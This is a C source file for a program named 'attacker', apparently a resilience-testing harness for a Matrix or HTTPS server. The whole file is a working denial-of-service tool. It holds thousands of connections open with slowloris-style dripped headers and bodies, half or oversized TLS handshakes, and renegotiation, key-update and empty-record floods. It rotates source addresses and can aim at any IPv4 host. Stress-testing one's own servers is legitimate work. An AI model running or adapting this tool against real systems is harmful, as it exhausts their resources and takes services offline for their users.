/* Holds connections in one state, and stops by itself.

   attacker STATE HOST PORT TLS SOURCES COUNT RATE PACE SECONDS

   HOST is an IPv4 address, or the path of a Unix socket with PORT 0. TLS is 1 where HTTP goes
   through TLS. SOURCES are addresses with commas between them, used in turn, or `-`. COUNT
   connections are held at a time, opened within the first second; those that end are replaced, RATE
   a second at most. PACE is how many sends a second all of them do together in the states that
   flood. At the end one line of JSON says what was done. */

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <gnutls/crypto.h>
#include <gnutls/gnutls.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/signal.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define TICK_MILLISECONDS 5
#define DRIP_SECONDS 0.3
#define MEBIBYTE ((size_t)1024 * 1024)
#define ARRAY_SIZE(array) (sizeof(array) / sizeof(*(array)))

struct bytes {
    size_t size;
    unsigned char data[32 * 1024];
};

/* What is sent on a connection: first `first`, then `more` again and again up to `limit` bytes. */
struct script {
    struct bytes first;
    struct bytes more;
    size_t limit;
};

enum pace {
    ONCE,  /* the first bytes, at once */
    DRIP,  /* one byte now and then */
    FLOOD, /* as fast as PACE lets it */
};

enum reading {
    READ_ALL,
    READ_NOTHING,
    READ_BYTES, /* one now and then */
};

enum ending {
    STAY,
    CLOSE,
    RESET,
    HALF_CLOSE,
};

enum layer {
    TCP, /* bytes of its own, even to an HTTPS listener */
    APPLICATION,
    TLS12, /* the same, by TLS 1.2 */
};

struct client {
    int socket; /* -1: a free place */
    gnutls_session_t tls;
    enum {
        CONNECTING,
        SHAKING_HANDS,
        SENDING,
        DONE
    } stage;
    size_t sent;
    double next;
    bool interrupted; /* GnuTLS holds the rest of a record */
    bool watched;
};

struct state {
    const char *name;
    void (*write)(struct script *script);
    enum layer layer;
    enum pace pace;
    enum reading reading;
    enum ending ending;
    int (*flood)(struct client *client); /* in place of the script */
};

static void fail(const char *what)
{
    perror(what);
    exit(1);
}

static double now(void)
{
    struct timespec time;

    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* Bytes */

static void put(struct bytes *bytes, const void *data, size_t size)
{
    if (bytes->size + size > sizeof(bytes->data)) {
        fail("a script is too long");
    }
    memcpy(bytes->data + bytes->size, data, size);
    bytes->size += size;
}

static void put_number(struct bytes *bytes, size_t number, int width)
{
    while (width-- > 0) {
        unsigned char byte = (unsigned char)(number >> (8 * width));

        put(bytes, &byte, 1);
    }
}

static void put_text(struct bytes *bytes, const char *text)
{
    put(bytes, text, strlen(text));
}

static void put_filling(struct bytes *bytes, size_t count)
{
    while (count-- > 0) {
        put_number(bytes, 'x', 1);
    }
}

static void put_extension(struct bytes *bytes, size_t type, const char *data, size_t size)
{
    put_number(bytes, type, 2);
    put_number(bytes, size, 2);
    put(bytes, data, size);
}

enum hello {
    HELLO_13,
    HELLO_WITHOUT_SHARE, /* gets a HelloRetryRequest */
    HELLO_12,
};

#define EXTENSION(bytes, type, data) put_extension(bytes, type, data, sizeof(data) - 1)

/* A ClientHello for example.com as a record (RFC 8446, section 4.1.2). */
static void put_hello(struct bytes *record, enum hello kind)
{
    struct bytes extensions = {0}, hello = {0};
    unsigned char random[32];

    gnutls_rnd(GNUTLS_RND_NONCE, random, sizeof(random));
    EXTENSION(&extensions, 0,
              "\x00\x0e\x00\x00\x0b"
              "example.com");
    EXTENSION(&extensions, 10, "\x00\x04\x00\x1d\x00\x17"); /* X25519, P-256 */
    EXTENSION(&extensions, 11, "\x01\x00");
    EXTENSION(&extensions, 13, "\x00\x04\x04\x03\x08\x04"); /* ECDSA with P-256, RSA-PSS */
    EXTENSION(&extensions, 23, "");                         /* extended master secret */
    EXTENSION(&extensions, 0xff01, "\x00");
    if (kind != HELLO_12) {
        EXTENSION(&extensions, 43, "\x02\x03\x04");
        EXTENSION(&extensions, 45, "\x01\x01");
    }
    if (kind == HELLO_13) {
        put_number(&extensions, 51, 2);
        put_number(&extensions, 38, 2);
        put_number(&extensions, 36, 2);
        put_number(&extensions, 0x1d, 2);
        put_number(&extensions, 32, 2);
        put(&extensions, random, 32); /* any 32 bytes are a point of Curve25519 */
    } else if (kind == HELLO_WITHOUT_SHARE) {
        EXTENSION(&extensions, 51, "\x00\x00");
    }
    put_number(&hello, 0x0303, 2);
    put(&hello, random, 32);
    put_number(&hello, 0, 1);
    put(&hello, "\x00\x06\x13\x01\xc0\x2b\xc0\x2f", 8);
    put(&hello, "\x01\x00", 2);
    put_number(&hello, extensions.size, 2);
    put(&hello, extensions.data, extensions.size);
    put(record, "\x16\x03\x01", 3);
    put_number(record, hello.size + 4, 2);
    put_number(record, 1, 1);
    put_number(record, hello.size, 3);
    put(record, hello.data, hello.size);
}

/* The first record of a handshake message of 16 MB, and those that follow it. */
static void write_endless(struct script *script, unsigned type)
{
    put(&script->first, "\x16\x03\x03", 3);
    put_number(&script->first, 16000, 2);
    put_number(&script->first, type, 1);
    put_number(&script->first, 0xfffff0, 3);
    put_filling(&script->first, 16000 - 4);
    put(&script->more, "\x16\x03\x03", 3);
    put_number(&script->more, 16000, 2);
    put_filling(&script->more, 16000);
    script->limit = 16 * MEBIBYTE;
}

/* Scripts */

#define REQUEST "GET /.well-known/matrix/server HTTP/1.1\r\nHost: example.com\r\n"
#define POST "POST /.well-known/matrix/server HTTP/1.1\r\nHost: example.com\r\n"

static void write_nothing(struct script *script)
{
    (void)script;
}

static void write_hello(struct script *script)
{
    put_hello(&script->first, HELLO_13);
}

static void write_half_hello(struct script *script)
{
    put_hello(&script->first, HELLO_13);
    script->first.size /= 2;
}

static void write_hello_for_retry(struct script *script)
{
    put_hello(&script->first, HELLO_WITHOUT_SHARE);
}

static void write_endless_hello(struct script *script)
{
    write_endless(script, 1);
}

static void write_endless_key_exchange(struct script *script)
{
    put_hello(&script->first, HELLO_12);
    write_endless(script, 16);
}

static void write_half_line(struct script *script)
{
    put_text(&script->first, "GET /.well-known/mat");
}

static void write_headers(struct script *script)
{
    put_text(&script->first, REQUEST "X-Drip: ");
    put_text(&script->more, "x");
    script->limit = 7000;
}

static void write_8_kib_of_headers(struct script *script)
{
    put_text(&script->first, REQUEST "X-Filling: ");
    put_filling(&script->first, 8000 - script->first.size);
}

static void write_body_to_come(struct script *script)
{
    put_text(&script->first, POST "Content-Length: 60000\r\n\r\n");
    put_text(&script->more, "x");
    script->limit = 60000;
}

static void write_chunks(struct script *script)
{
    put_text(&script->first, POST "Transfer-Encoding: chunked\r\n\r\n");
    put_text(&script->more, "1000\r\n");
    put_filling(&script->more, 0x1000);
    put_text(&script->more, "\r\n");
    script->limit = SIZE_MAX;
}

static void write_request(struct script *script)
{
    put_text(&script->first, REQUEST "\r\n");
}

static void write_requests(struct script *script)
{
    for (int i = 0; i < 100; i++) {
        put_text(&script->first, REQUEST "\r\n");
    }
    script->more = script->first;
    script->limit = SIZE_MAX;
}

/* Records that carry nothing */

static int update_key(struct client *client)
{
    return gnutls_session_key_update(client->tls, GNUTLS_KU_PEER);
}

static int send_empty_record(struct client *client)
{
    return (int)gnutls_record_send(client->tls, "", 0);
}

static int renegotiate(struct client *client)
{
    int result = gnutls_handshake(client->tls);

    return gnutls_error_is_fatal(result) ? result : GNUTLS_E_AGAIN;
}

static const struct state states[] = {
    {"silent", write_nothing, TCP, ONCE, READ_ALL, STAY, NULL},
    {"half-hello", write_half_hello, TCP, ONCE, READ_ALL, STAY, NULL},
    {"dripped-hello", write_hello, TCP, DRIP, READ_ALL, STAY, NULL},
    {"hello", write_hello, TCP, ONCE, READ_ALL, STAY, NULL},
    {"hello-retry", write_hello_for_retry, TCP, ONCE, READ_ALL, STAY, NULL},
    {"endless-hello", write_endless_hello, TCP, FLOOD, READ_ALL, STAY, NULL},
    {"endless-key-exchange", write_endless_key_exchange, TCP, FLOOD, READ_ALL, STAY, NULL},
    {"handshake", write_nothing, APPLICATION, ONCE, READ_ALL, STAY, NULL},
    {"handshakes", write_nothing, APPLICATION, ONCE, READ_ALL, CLOSE, NULL},
    {"half-line", write_half_line, APPLICATION, ONCE, READ_ALL, STAY, NULL},
    {"dripped-headers", write_headers, APPLICATION, DRIP, READ_ALL, STAY, NULL},
    {"8-kib-of-headers", write_8_kib_of_headers, APPLICATION, ONCE, READ_ALL, STAY, NULL},
    {"body-to-come", write_body_to_come, APPLICATION, ONCE, READ_NOTHING, STAY, NULL},
    {"dripped-body", write_body_to_come, APPLICATION, DRIP, READ_NOTHING, STAY, NULL},
    {"chunks", write_chunks, APPLICATION, FLOOD, READ_NOTHING, STAY, NULL},
    {"pipeline-unread", write_requests, APPLICATION, FLOOD, READ_NOTHING, STAY, NULL},
    {"read-by-bytes", write_requests, APPLICATION, FLOOD, READ_BYTES, STAY, NULL},
    {"kept", write_request, APPLICATION, ONCE, READ_ALL, STAY, NULL},
    {"key-updates", write_nothing, APPLICATION, FLOOD, READ_ALL, STAY, update_key},
    {"empty-records", write_nothing, APPLICATION, FLOOD, READ_ALL, STAY, send_empty_record},
    {"renegotiations", write_nothing, TLS12, FLOOD, READ_NOTHING, STAY, renegotiate},
    {"resets", write_half_line, TCP, ONCE, READ_ALL, RESET, NULL},
    {"half-closes", write_half_line, TCP, ONCE, READ_ALL, HALF_CLOSE, NULL},
    {"plain-to-tls", write_request, TCP, ONCE, READ_ALL, STAY, NULL},
};

/* The attack */

struct attack {
    const struct state *state;
    struct script script;
    struct sockaddr_storage target;
    socklen_t target_size;
    bool tls;
    char **sources;
    size_t source_count;
    size_t next_source;
    struct client *clients;
    size_t count;
    double rate, pace, budget, tokens;
    gnutls_certificate_credentials_t credentials;
    int epoll;
    size_t open, opened, peak, handshakes, ended;
    double bytes;
};

static void leave(struct attack *attack, struct client *client)
{
    if (client->tls) {
        gnutls_deinit(client->tls);
    }
    close(client->socket);
    *client = (struct client){.socket = -1};
    attack->open--;
}

static void watch(struct attack *attack, struct client *client, uint32_t events)
{
    struct epoll_event event = {.events = events | EPOLLRDHUP, .data.ptr = client};

    epoll_ctl(attack->epoll, client->watched ? EPOLL_CTL_MOD : EPOLL_CTL_ADD, client->socket,
              &event);
    client->watched = true;
}

static void bind_to_source(struct attack *attack, int socket)
{
    struct sockaddr_in source = {.sin_family = AF_INET};
    int on = 1;

    if (attack->source_count == 0) {
        return;
    }
    inet_pton(AF_INET, attack->sources[attack->next_source], &source.sin_addr);
    attack->next_source = (attack->next_source + 1) % attack->source_count;
    setsockopt(socket, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof(on));
    if (bind(socket, (struct sockaddr *)&source, sizeof(source)) != 0) {
        fail("bind");
    }
}

static bool join(struct attack *attack, struct client *client)
{
    int small = 4096, on = 1, descriptor;

    descriptor = socket(attack->target.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (descriptor < 0) {
        return false;
    }
    if (attack->target.ss_family == AF_INET) {
        bind_to_source(attack, descriptor);
        setsockopt(descriptor, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
    }
    if (attack->state->reading != READ_ALL) {
        setsockopt(descriptor, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
    }
    if (connect(descriptor, (struct sockaddr *)&attack->target, attack->target_size) != 0 &&
        errno != EINPROGRESS) {
        close(descriptor);
        return false;
    }
    *client = (struct client){.socket = descriptor, .stage = CONNECTING};
    watch(attack, client, EPOLLOUT);
    attack->opened++;
    if (++attack->open > attack->peak) {
        attack->peak = attack->open;
    }
    return true;
}

static void begin_tls(struct attack *attack, struct client *client)
{
    const char *version = attack->state->layer == TLS12 ? "NORMAL:-VERS-ALL:+VERS-TLS1.2"
                                                        : "NORMAL:-VERS-ALL:+VERS-TLS1.3:"
                                                          "-GROUP-ALL:+GROUP-X25519";

    gnutls_init(&client->tls, GNUTLS_CLIENT | GNUTLS_NONBLOCK | GNUTLS_NO_SIGNAL);
    gnutls_priority_set_direct(client->tls, version, NULL);
    gnutls_credentials_set(client->tls, GNUTLS_CRD_CERTIFICATE, attack->credentials);
    gnutls_server_name_set(client->tls, GNUTLS_NAME_DNS, "example.com", strlen("example.com"));
    gnutls_transport_set_int(client->tls, client->socket);
}

static void end_script(struct attack *attack, struct client *client)
{
    struct linger at_once = {.l_onoff = 1};

    client->stage = DONE;
    switch (attack->state->ending) {
    case STAY:
        break;
    case HALF_CLOSE:
        shutdown(client->socket, SHUT_WR);
        break;
    case RESET:
        setsockopt(client->socket, SOL_SOCKET, SO_LINGER, &at_once, sizeof(at_once));
        leave(attack, client);
        break;
    case CLOSE:
        leave(attack, client);
        break;
    }
}

/* Sends what comes next; false where the connection is over. */
static bool send_more(struct attack *attack, struct client *client)
{
    const struct script *script = &attack->script;
    const struct bytes *part = &script->first;
    size_t at = client->sent, size;
    ssize_t done;

    if (attack->state->flood) {
        done = attack->state->flood(client);
        attack->bytes += 1;
        return done >= 0 || !gnutls_error_is_fatal((int)done);
    }
    if (at >= script->first.size) {
        part = &script->more;
        if (part->size == 0 || at >= script->limit || attack->state->pace == ONCE) {
            end_script(attack, client);
            return true;
        }
        at = (at - script->first.size) % part->size;
    }
    size = attack->state->pace == DRIP ? 1 : part->size - at;
    if (client->tls) {
        done = gnutls_record_send(client->tls, client->interrupted ? NULL : part->data + at,
                                  client->interrupted ? 0 : size);
        client->interrupted = done == GNUTLS_E_AGAIN;
        if (done < 0) {
            return !gnutls_error_is_fatal((int)done);
        }
    } else {
        done = send(client->socket, part->data + at, size, MSG_NOSIGNAL);
        if (done < 0) {
            return errno == EAGAIN;
        }
    }
    client->sent += (size_t)done;
    attack->bytes += (double)done;
    if (attack->state->pace == ONCE && client->sent >= script->first.size) {
        end_script(attack, client);
    }
    return true;
}

/* Reads one byte, or all that there is; false at the end. */
static bool receive(struct client *client, bool all)
{
    char buffer[16384];
    ssize_t done;

    do {
        if (client->tls && all) {
            done = gnutls_record_recv(client->tls, buffer, sizeof(buffer));
            if (done == 0 || (done < 0 && gnutls_error_is_fatal((int)done))) {
                return false;
            }
        } else {
            done = recv(client->socket, buffer, all ? sizeof(buffer) : 1, 0);
            if (done == 0 || (done < 0 && errno != EAGAIN)) {
                return false;
            }
        }
    } while (all && done > 0);
    return true;
}

static void begin_sending(struct attack *attack, struct client *client)
{
    client->stage = SENDING;
    watch(attack, client, attack->state->reading == READ_ALL ? EPOLLIN : 0);
    if (attack->script.first.size == 0 && !attack->state->flood) {
        end_script(attack, client);
    }
}

static void handle(struct attack *attack, struct client *client, uint32_t events)
{
    if (client->socket < 0) {
        return;
    }
    if (events & (EPOLLERR | EPOLLHUP)) {
        attack->ended++;
        leave(attack, client);
        return;
    }
    if (client->stage == CONNECTING) {
        if (!attack->tls || attack->state->layer == TCP) {
            begin_sending(attack, client);
            return;
        }
        begin_tls(attack, client);
        client->stage = SHAKING_HANDS;
        watch(attack, client, EPOLLIN);
    }
    if (client->stage == SHAKING_HANDS) {
        int result = gnutls_handshake(client->tls);

        if (result == GNUTLS_E_SUCCESS) {
            attack->handshakes++;
            begin_sending(attack, client);
        } else if (gnutls_error_is_fatal(result)) {
            attack->ended++;
            leave(attack, client);
        }
        return;
    }
    if ((events & EPOLLIN && !receive(client, true)) || events & EPOLLRDHUP) {
        attack->ended++;
        leave(attack, client);
    }
}

/* What a client does by itself, when its time has come. */
static void act(struct attack *attack, struct client *client, double time)
{
    enum pace pace = attack->state->pace;

    if (client->socket < 0 || client->stage < SENDING || time < client->next) {
        return;
    }
    client->next = pace == FLOOD && attack->state->reading != READ_BYTES ? 0 : time + DRIP_SECONDS;
    if (attack->state->reading == READ_BYTES && !receive(client, false)) {
        attack->ended++;
        leave(attack, client);
        return;
    }
    if (client->stage != SENDING) {
        return;
    }
    if (pace == FLOOD) {
        if (attack->budget < 1) {
            client->next = 0;
            return;
        }
        attack->budget--;
    }
    if (!send_more(attack, client)) {
        attack->ended++;
        leave(attack, client);
    }
}

static void run(struct attack *attack, double seconds)
{
    double begin = now(), last = begin;
    size_t first = 0;
    bool opening = true;

    while (last < begin + seconds) {
        struct epoll_event events[256];
        double time;
        int count = epoll_wait(attack->epoll, events, ARRAY_SIZE(events), TICK_MILLISECONDS);

        for (int i = 0; i < count; i++) {
            handle(attack, events[i].data.ptr, events[i].events);
        }
        time = now();
        if (time - last < TICK_MILLISECONDS / 1e3) {
            continue;
        }
        /* The first ones come as fast as it takes to be at the height soon. */
        attack->tokens += (opening ? (double)attack->count : attack->rate) * (time - last);
        opening = opening && attack->opened < attack->count;
        attack->budget = attack->pace * (time - last);
        last = time;
        if (attack->tokens > attack->rate) {
            attack->tokens = attack->rate;
        }
        /* Not always the same ones get the little that PACE allows. */
        first = (first + 97) % attack->count;
        for (size_t i = 0; i < attack->count; i++) {
            struct client *client = &attack->clients[(first + i) % attack->count];

            if (client->socket < 0 && attack->tokens >= 1) {
                attack->tokens--;
                join(attack, client);
            }
            act(attack, client, time);
        }
    }
}

static void allow_many_descriptors(void)
{
    struct rlimit limit;

    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
}

static void set_target(struct attack *attack, const char *host, int port)
{
    if (port == 0) {
        struct sockaddr_un *target = (struct sockaddr_un *)&attack->target;

        target->sun_family = AF_UNIX;
        snprintf(target->sun_path, sizeof(target->sun_path), "%s", host);
        attack->target_size = sizeof(*target);
    } else {
        struct sockaddr_in *target = (struct sockaddr_in *)&attack->target;

        target->sin_family = AF_INET;
        target->sin_port = htons((uint16_t)port);
        inet_pton(AF_INET, host, &target->sin_addr);
        attack->target_size = sizeof(*target);
    }
}

static void set_sources(struct attack *attack, char *list)
{
    static char *sources[1024];

    attack->sources = sources;
    if (strcmp(list, "-") == 0) {
        return;
    }
    for (char *each = strtok(list, ","); each && attack->source_count < ARRAY_SIZE(sources);
         each = strtok(NULL, ",")) {
        sources[attack->source_count++] = each;
    }
}

int main(int argc, char **argv)
{
    static struct attack attack;

    if (argc != 10) {
        fprintf(stderr, "attacker STATE HOST PORT TLS SOURCES COUNT RATE PACE SECONDS\n");
        return 2;
    }
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    allow_many_descriptors();
    for (size_t i = 0; i < ARRAY_SIZE(states); i++) {
        if (strcmp(states[i].name, argv[1]) == 0) {
            attack.state = &states[i];
        }
    }
    if (!attack.state) {
        fprintf(stderr, "no state is named %s\n", argv[1]);
        return 2;
    }
    set_target(&attack, argv[2], (int)strtol(argv[3], NULL, 10));
    attack.tls = strtol(argv[4], NULL, 10) != 0;
    set_sources(&attack, argv[5]);
    attack.count = strtoul(argv[6], NULL, 10);
    attack.rate = strtod(argv[7], NULL);
    attack.pace = strtod(argv[8], NULL);
    attack.state->write(&attack.script);
    attack.clients = calloc(attack.count, sizeof(*attack.clients));
    attack.epoll = epoll_create1(EPOLL_CLOEXEC);
    if (!attack.clients || attack.epoll < 0) {
        fail("attacker");
    }
    for (size_t i = 0; i < attack.count; i++) {
        attack.clients[i].socket = -1;
    }
    gnutls_certificate_allocate_credentials(&attack.credentials);
    printf("begun\n");
    fflush(stdout);
    run(&attack, strtod(argv[9], NULL));
    printf("{\"opened\": %zu, \"peak\": %zu, \"open\": %zu, \"handshakes\": %zu, \"ended\": %zu, "
           "\"bytes\": %.0f}\n",
           attack.opened, attack.peak, attack.open, attack.handshakes, attack.ended, attack.bytes);
    return 0;
}
